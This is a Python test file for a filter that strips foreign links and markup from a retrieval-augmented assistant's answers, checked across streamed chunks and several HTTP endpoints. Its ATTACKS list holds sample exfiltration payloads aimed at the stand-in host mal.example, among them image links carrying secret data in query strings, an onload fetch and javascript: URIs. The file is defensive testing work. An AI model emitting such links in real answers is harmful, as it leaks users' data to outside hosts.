"""What an answer may lead to, piece by piece as it is streamed and as it is kept, on every front."""

import json
import random
import re
from typing import Any

import httpx
import pytest
from langchain_core.messages import AIMessageChunk
from support.loopback import remote, serving
from support.openai_server import OpenAIServer, Reply
from support.waiting import PATIENCE
from support.wired import META, QUESTION, VACATION, Wired, shown, wired

from server.app import create_app
from services.prompting.outgoing_links import LinkFilter, without_foreign_links

OWN = VACATION["url"]
NOTE = "[enlace omitido]"
ATTACKS = [
    "![x](https://mal.example/?d=secreto)",
    "![x]  (//mal.example/i.png)",
    "[C1](https://mal.example/a)",
    "【C1】(https://mal.example/a)",
    "[x](<https://mal.example/a>)",
    "[x](  https://mal.example/a 'título')",
    "[x](&#104;ttps&#58;//mal.example/a)",
    "[x][y]\n\n[y]: //mal.example/a",
    "[y]:\nhttps://mal.example/a",
    "<https://mal.example/a>",
    "<img src=//mal.example/p.png>",
    "<svg/onload=fetch('//mal.example')>",
    "<[C9]img src=x>",
    "[x][C9](javascript:alert(1))",
    "data:image/png;base64,AAAA",
    "javascript:alert(1)",
    "https:mal.example/a",
    "http:\\\\mal.example",
    "ht\u200btps://mal.example",
    "www.mal.example/?d=1",
    f"{OWN}.mal.example/?d=1",
    f"{OWN}?d=secreto",
    "https://www.boe.es@mal.example/a",
    "w[C9]ww.mal.example/a",
]
LIVE = re.compile(
    r"!\[|\]\((?!https://www\.boe\.es/[^\s()]*\))|\]:\s*\S*[/&]|<[a-z/!?]|(?:data|javascript):", re.IGNORECASE
)


def leads_away(text: str) -> bool:
    """Tell whether anything in a text is live, or names the foreign host as an address."""
    addresses = re.findall(r"(?:https?:|//|www\.)[^\s)\]>]*", text.replace(OWN, ""))
    return bool(
        LIVE.search(text)
        or addresses
        or text.count(OWN) != len(re.findall(re.escape(OWN) + r"(?=$|[\s).,\[>›])", text))
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cut_of_a_stream_lets_anything_through(attack: str) -> None:
    text = f"Son 30 días {attack} y véase {OWN}. [Aquí]({OWN}) [C1]."
    whole = without_foreign_links(text, {OWN}, NOTE)
    assert f"véase {OWN}. [Aquí]({OWN}) [C1]." in whole
    assert without_foreign_links(whole, {OWN}, NOTE) == whole
    chance = random.Random(attack)
    for _ in range(40):
        filtered, rest = LinkFilter({OWN}, NOTE), text
        while rest:
            size = chance.randrange(1, 12)
            filtered.feed(rest[:size])
            rest = rest[size:]
        filtered.close()
        assert filtered.text == whole


@pytest.mark.parametrize("attack", ATTACKS)
async def test_streamed_tokens_messages_and_result_lead_to_sources_alone(server: OpenAIServer, attack: str) -> None:
    async with wired(server) as rig:
        server.answer("principal", lambda request: Reply(f"Son 30 días [C1]. {attack} Fin, {OWN}.{META}", piece=3))
        said: dict[str, str] = {}
        events: list[Any] = []
        modes = ["custom", "messages"]
        async for mode, item in rig.graph.astream({"question": QUESTION}, stream_mode=modes):
            if mode == "custom":
                events.append(item)
            elif isinstance(item[0], AIMessageChunk):
                said[item[0].id or ""] = said.get(item[0].id or "", "") + str(item[0].text)
        result = events[-1]["result"]
    # What a marker that vanishes would have joined is parted by it in the stream.
    assert result["answer"].endswith(f"Fin, {OWN}.")
    for text in (result["answer"], *shown(events), *said.values()):
        assert not leads_away(text), text


def test_no_front_lets_anything_through(server: OpenAIServer) -> None:
    written = " ".join(ATTACKS)
    rig = Wired(server)
    server.answer("principal", lambda request: Reply(f"Son 30 días [C1]. {written}{META}", piece=9))
    with serving(create_app(rig.graph, close=rig.close)) as url, httpx.Client(base_url=url, timeout=PATIENCE) as http:
        texts = [http.post("/v1/ask", json={"question": QUESTION}).json()["answer"]]
        stream = http.post("/v1/ask", json={"question": QUESTION}, headers={"accept": "text/event-stream"}).text
        data = [json.loads(line[6:]) for line in stream.splitlines() if line.startswith("data: {")]
        texts.append("".join(one.get("text", "") for one in data))
        texts += [one["answer"] for one in data if "answer" in one]
        texts.append(http.post("/rag/invoke", json={"input": {"question": QUESTION}}).json()["output"]["answer"])
        with remote(url) as client:
            events = list(client.stream({"question": QUESTION}))
        texts += [*shown(events), events[-1]["result"]["answer"]]
    assert len(texts) == 6
    for text in texts:
        assert "Son 30 días [C1]." in text
        assert not leads_away(text), text
